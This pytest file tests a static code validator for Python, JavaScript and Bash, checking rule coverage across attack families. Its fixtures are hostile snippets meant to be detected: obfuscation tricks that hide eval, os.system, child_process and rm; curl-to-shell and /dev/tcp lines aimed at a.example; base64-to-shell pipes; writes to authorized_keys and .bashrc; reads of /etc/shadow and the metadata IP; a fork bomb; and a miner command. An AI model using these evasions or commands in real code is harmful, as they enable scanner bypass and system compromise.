"""The rules that are installed: every example of theirs holds, all families are there, and what
measures them (tests/evaluate) notices a policy that sees nothing or refuses everything."""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[3]
BUILD = ROOT / "build" / os.environ.get("VARIANT", "release")
CASEMATE = BUILD / "bin" / "casemate"
SOURCE = ROOT / "validator" / "code" / "rules"
SETS = ROOT / "tests" / "evaluate"
LANGUAGES = {"python": "py-", "javascript": "js-", "bash": "sh-"}
FAMILIES = {
    "command-injection", "code-evaluation", "unsafe-deserialisation", "sql-injection",
    "template-injection", "path-traversal", "network", "process-spawn", "reflection", "weak-crypto",
    "secrets", "resource-abuse", "encoded-payload", "persistence", "reconnaissance", "crypto-mining"}

# The search for leaks needs a thread, which what is confined does not get.
os.environ["ASAN_OPTIONS"] = os.environ.get("ASAN_OPTIONS", "") + ":detect_leaks=0"
sys.path.insert(0, str(SETS))
import evaluate  # noqa: E402


def documents():
    return {path: json.loads(path.read_text()) for path in sorted(SOURCE.glob("*/*.json"))}


def check(*arguments):
    return subprocess.run([CASEMATE, "check", *arguments], capture_output=True, text=True, check=False)


def test_every_example_holds():
    number = sum(len(document["rules"]) for document in documents().values())

    done = check("--rules", SOURCE)

    assert number >= 120
    assert (done.returncode, done.stderr) == (0, ""), done
    assert done.stdout.splitlines()[-1] == f"{number} rules, 0 with an example that fails"


@pytest.mark.parametrize("language", LANGUAGES)
def test_an_example_that_fails_is_told(tmp_path, language):
    document = json.loads((SOURCE / language / "network.json").read_text())
    rule = document["rules"][0]
    rule["match"].append(rule["no_match"][0])
    (tmp_path / language).mkdir()
    (tmp_path / language / "network.json").write_text(json.dumps({**document, "rules": [rule]}))

    done = check("--rules", tmp_path)

    assert done.returncode != 0
    assert rule["id"] in done.stdout + done.stderr


def test_all_families_in_all_languages():
    found = {(document["language"], document["family"]) for document in documents().values()}

    assert found == {(language, family) for language in LANGUAGES for family in FAMILIES}


def test_a_file_is_where_it_says_and_ids_are_of_its_language():
    for path, document in documents().items():
        assert (path.parent.name, path.stem) == (document["language"], document["family"])
        for rule in document["rules"]:
            assert rule["id"].startswith(LANGUAGES[document["language"]])


def test_the_sets_are_as_large_as_they_say():
    evasion = sorted(SETS.glob("evasion/*/*"))
    ordinary = sorted(SETS.glob("ordinary/*"))
    by_family = {family: sum(path.parent.name == family for path in evasion) for family in FAMILIES}
    held_out = sum(evaluate.is_held_out(str(path.relative_to(SETS))) for path in evasion)

    assert len(evasion) >= 150 and min(by_family.values()) >= 5 and len(ordinary) == 200
    assert len(evasion) / 4 < held_out < len(evasion) / 2


def run_evaluate(tmp_path, script):
    done = subprocess.run(
        [sys.executable, SETS / "evaluate.py", "--train", "--json", tmp_path / "results.json", "--",
         "sh", "-c", script], capture_output=True, text=True, check=False)
    return done, json.loads((tmp_path / "results.json").read_text())


def test_a_policy_that_sees_nothing_has_no_recall(tmp_path):
    done, results = run_evaluate(tmp_path, "exit 0")

    assert done.returncode == 0
    assert not any(result["own"] for result in results)
    assert "held out" not in {result["half"] for result in results}


def test_a_policy_that_refuses_everything_is_no_good(tmp_path):
    done, results = run_evaluate(tmp_path, 'echo "$0:1:1: high: bad [py-eval, CWE-95]"; exit 1')

    assert done.returncode == 1 and "ordinary programs are rejected" in done.stderr
    assert all(result["rejected"] and result["severity"] == 3 for result in results)
    assert {result["kind"] for result in results if result["own"]} == {"code-evaluation"}


# What each trick hides is denied by this policy, under its plain name only.
PLAIN = {
    "python": {"modules": {"deny": ["socket"]}, "attributes": {"deny": ["__subclasses__"]},
               "functions": {"deny": ["os.system", "builtins.eval", "builtins.exec"]}},
    "javascript": {"modules": {"deny": ["child_process"]}, "attributes": {"deny": ["__proto__", "constructor"]},
                   "functions": {"deny": ["eval", "Function", "process.binding"]}},
    "bash": {"commands": {"deny": ["rm"]}, "syntax": {"deny": ["code-evaluation"]}},
}
TRICKS = {
    ("python", "import under another name"): ["import os as o\no.system('x')", "from os import system as s\ns('x')"],
    ("python", "import by a call"): [
        "__import__('os').system('x')", "__import__('soc' + 'ket')", "m = 'os'\n__import__(m).system('x')",
        "import importlib\nimportlib.import_module('o' + 's').system('x')",
        "import importlib as i\ni.import_module('tekcos'[::-1])", "import sys\nsys.modules['os'].system('x')"],
    ("python", "attribute by name"): [
        "import builtins\ngetattr(builtins, 'ev' 'al')('1')", "getattr(__import__('os'), 'sys' 'tem')('x')",
        "import os\nos.__dict__['system']('x')", "vars(__import__('os'))['system']('x')",
        "__builtins__.__dict__['eval']('1')"],
    ("python", "walk to a class"): ["().__class__.__base__.__subclasses__()", "getattr(object, '__sub' + 'classes__')()"],
    ("python", "alias through assignment"): [
        "import os\nrun = os.system\nrun('x')", "a = b = eval\nb('1')", "f = {'a': eval}['a']\nf('1')",
        "def f(g=eval):\n  g('1')", "from functools import partial\npartial(eval, '1')()",
        "import os\nclass A:\n  r = os.system\nA.r('x')", "(lambda: eval)()('1')", "for f in [eval]:\n  f('1')"],
    ("python", "star import"): ["from os import *\nsystem('x')"],
    ("python", "compatibility characters"): [
        "import os\n\uff4fs.\uff53ystem('x')", "\u212fval('1')", "\U0001d452\U0001d465\U0001d452\U0001d450('1')"],
    ("javascript", "require and import"): [
        "require('child_' + 'process')", "const {exec: e} = require('node:child_process')", "import('child_process')",
        "import * as c from 'child_process'", "const r = require; r('child_process')", "module.require('child_process')",
        "const m = 'child_process'; require(m)", "require(`child_${'process'}`)", "require(['child', 'process'].join('_'))",
        "process.mainModule.require('child_process')"],
    ("javascript", "binding"): ["process.binding('fs')", "process['bind' + 'ing']('fs')"],
    ("javascript", "code from text"): [
        "Function('x')()", "new Function('x')()", "(0, eval)('1')", "const e = eval; e('1')",
        "globalThis['ev' + 'al']('1')", "Reflect.get(globalThis, 'eval')('1')"],
    ("javascript", "walk to a prototype"): [
        "({}).constructor.constructor('x')()", "[]['__pro' + 'to__']", "x.__proto__.y", "[].filter.constructor('x')()"],
    ("javascript", "escapes in identifiers"): ["\\u0065val('1')", "ev\\u{61}l('1')", "x.constr\\u0075ctor"],
    ("bash", "expansion"): [
        "r=rm; $r x", "a=r b=m; $a$b x", "${x:-rm} y", "${x=rm} y", "{rm,x}", "$'\\x72m' x", "$(echo rm) x", "x='rm y'; $x"],
    ("bash", "quoting"): ["'rm' x", "r''m x", "r\\m x", "\"r\"m x"],
    ("bash", "eval"): ["eval ls", "e=eval; $e ls", "eval \"r\"\"m x\""],
    ("bash", "IFS"): ["rm$IFS-rf$IFS/", "rm${IFS}x"],
    ("bash", "backticks"): ["`echo rm` x"],
    ("bash", "here-documents"): ["bash <<E\nrm x\nE", "sh <<'E'\nrm x\nE", "bash <<< 'rm x'"],
    ("bash", "base64 to a shell"): ["$(echo cm0= | base64 -d) x", "bash -c \"$(echo cm0geAo= | base64 -d)\""],
    ("bash", "a command that runs it"): [
        "command rm x", "env A=1 rm x", "exec rm x", "xargs rm", "find . -exec rm {} +", "find . -name a -ok /bin/rm {} ';'",
        "timeout 5 rm x", "bash -c 'rm x'", "alias q=rm; q x", "/bin/rm x"],
}
LOOK_ALIKE = {
    "python": "import osx as os\nos.system('x')\nx.eval()\nprint('eval', \"__import__('os')\")\n",
    "javascript": "x.eval('1')\nconst s = 'require(\"child_process\")'\nlet evol = 1\n\\u0061b(1)\n",
    "bash": "echo rm\n${rm:-ls} x\n${x:+rm} y\nfind . -name rm -exec ls {} +\nfind rm\nx=rm\necho $x\n",
}


@pytest.mark.parametrize("language, trick", TRICKS, ids=[f"{language}-{trick}" for language, trick in TRICKS])
def test_a_name_is_resolved_however_it_is_written(tmp_path, language, trick):
    policy = tmp_path / "p.json"
    policy.write_text(json.dumps(PLAIN))
    file = tmp_path / "source"
    for source in TRICKS[language, trick]:
        file.write_text(source + "\n")
        done = check("--language", language, "--policy", policy, file)
        assert done.returncode == 1 and "[policy-" in done.stdout, (source, done)
    file.write_text(LOOK_ALIKE[language])
    assert check("--language", language, "--policy", policy, file).returncode == 0


# What a family is to cover at least, and of whose rules one tells of it.
COVERED = {
    "command-injection": {"a.py": ["import os\nos.system('ls ' + x)", "import subprocess as s\ns.run(f'ls {x}', shell=True)"],
                          "a.js": ["require('child_process').exec('ls ' + x)"], "a.sh": ["bash -c \"ls $1\""]},
    "code-evaluation": {"a.py": ["eval(x)", "exec(x)"], "a.js": ["eval(x)", "new Function(x)"], "a.sh": ["source <(curl a.example)"]},
    "unsafe-deserialisation": {
        "a.py": ["import pickle\npickle.loads(x)", "import marshal\nmarshal.loads(x)", "import shelve\nshelve.open(x)",
                 "import yaml\nyaml.load(x)", "import jsonpickle\njsonpickle.decode(x)"],
        "a.js": ["require('node-serialize').unserialize(x)"]},
    "sql-injection": {"a.py": ["c.execute('select * from t where a = ' + x)"],
                      "a.js": ["db.query('select * from t where a = ' + x)"]},
    "template-injection": {"a.py": ["import jinja2\njinja2.Template(x).render()"], "a.js": ["require('ejs').render(x)"]},
    "path-traversal": {"a.py": ["open('../../etc/passwd')"], "a.js": ["require('fs').readFileSync('../../etc/passwd')"],
                       "a.sh": ["cat ../../../etc/passwd"]},
    "network": {"a.py": ["import socket", "import requests\nrequests.get(x)"], "a.js": ["require('net')", "fetch(x)"],
                "a.sh": ["curl http://a.example/", "exec 3<>/dev/tcp/a.example/80"]},
    "process-spawn": {"a.py": ["import os\nos.fork()", "import subprocess\nsubprocess.Popen(x)"],
                      "a.js": ["require('child_process').spawn('a')"], "a.sh": ["nohup a"]},
    "reflection": {"a.py": ["().__class__.__mro__[1].__subclasses__()"], "a.js": ["x.__proto__.y = 1"]},
    "weak-crypto": {"a.py": ["import random\ntoken = random.random()", "import hashlib\nhashlib.md5(x)"],
                    "a.js": ["require('crypto').createHash('md5')"], "a.sh": ["md5sum a"]},
    "secrets": {"a.py": ["password = 'hunter2hunter2'", "key = 'AKIAIOSFODNN7EXAMPLE'"]},
    "resource-abuse": {"a.py": ["for i in range(10**12): pass", "def f(n):\n  return f(n + 1)"],
                       "a.js": ["while (true) {}"], "a.sh": [":(){ :|:& };:"]},
    "encoded-payload": {"a.py": ["import base64\nexec(base64.b64decode(x))"], "a.js": ["eval(atob(x))"],
                        "a.sh": ["echo $x | base64 -d | sh"]},
    "persistence": {"a.py": ["open('/root/.bashrc', 'a')", "open('/root/.ssh/authorized_keys', 'a')"],
                    "a.sh": ["crontab a", "echo x >> ~/.ssh/authorized_keys", "echo x >> ~/.profile"]},
    "reconnaissance": {"a.py": ["open('/proc/self/environ')", "open('/etc/shadow')", "u = 'http://169.254.169.254/latest'"],
                       "a.js": ["require('fs').readFileSync('/etc/shadow')"], "a.sh": ["cat /proc/1/environ"]},
    "crypto-mining": {"a.py": ["pool = 'stratum+tcp://pool.example:3333'"], "a.sh": ["./xmrig -o pool.example"]},
}


@pytest.mark.parametrize("family", COVERED)
def test_a_family_tells_of_what_it_is_to_cover(tmp_path, family):
    assert COVERED.keys() == FAMILIES
    family_of = evaluate.families(SOURCE)
    for name, sources in COVERED[family].items():
        for source in sources:
            (tmp_path / name).write_text(source + "\n")
            done = check(tmp_path / name)
            told = {family_of.get(rule) for _, rule in evaluate.FINDING.findall(done.stdout)}
            assert family in told, (name, source, done.stdout)


@pytest.mark.may_skip
@pytest.mark.skipif(not evaluate.HUMANEVAL.exists(), reason="the corpus is not part of the project")
@pytest.mark.skipif(BUILD.name != "release", reason="slower programs reach the time limit instead")
def test_the_page_tells_what_is_found():
    """Recall for each family, every miss with its layer: the numbers of docs/EVALUATION.md are these rules'."""
    done = subprocess.run([sys.executable, SETS / "evaluate.py", "--", CASEMATE, "check"],
                          capture_output=True, text=True, check=False)

    page = evaluate.DOCUMENT.read_text().split(evaluate.BEGIN)[1].split(evaluate.END)[0]
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == page.strip(), "run `make evaluate`"


def test_no_ordinary_program_is_rejected():
    done = check(*sorted((SETS / "ordinary").iterdir()))

    assert (done.returncode, done.stderr) == (0, "") and "rejects the code" not in done.stdout


@pytest.mark.parametrize("name, source, rule", [
    ("a.py", "import os as o\nrun = getattr(o, 'sys' + 'tem')\nrun('ls ' + input())\n", "py-shell-command-built"),
    ("a.js", "const { exec: e } = require('node:child_process');\ne(`ls ${process.argv[2]}`);\n", "js-exec-built"),
    ("a.sh", "echo aWQ= | base64 -d | b'a'sh\n", "sh-pipe-to-shell")])
def test_a_program_is_rejected_for_what_it_is(tmp_path, name, source, rule):
    (tmp_path / name).write_text(source)

    done = check(tmp_path / name)

    assert done.returncode == 1
    assert rule in {found for _, found in evaluate.FINDING.findall(done.stdout)}
